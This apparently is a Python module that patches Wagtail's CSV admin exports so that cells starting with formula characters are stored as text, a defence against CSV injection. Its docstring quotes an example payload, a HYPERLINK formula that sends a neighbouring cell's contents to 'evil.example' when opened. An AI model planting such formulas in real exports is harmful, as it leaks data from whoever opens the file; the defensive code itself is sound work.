"""CSV exports of the admin that a spreadsheet opens as text, never as formulas (OWASP's CSV injection rule).

Wagtail's exports (`SpreadsheetExportMixin`: sign-ups, subscribers, its own reports) write a CSV cell as
it is, and a name such as `=HYPERLINK("http://evil.example/?"&D2,"Kliknij")` runs when an organiser
opens the file. Its XLSX export already stores such a cell as text.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

# A spreadsheet reads a cell that starts with one of these as a formula (or, for tab and carriage
# return, strips them and looks again).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value):
    """The cell's value, with a leading apostrophe where a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv_row_as_text(self, writer, row_dict):
    return writer.writerow(
        {
            field: as_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def export_csv_as_text():
    """Every CSV export of the admin goes through this one method of Wagtail's mixin; the tests that export a
    formula (tests/site/test_registration_organisers.py, test_newsletter_sending.py) fail if Wagtail renames it."""
    SpreadsheetExportMixin.write_csv_row = write_csv_row_as_text
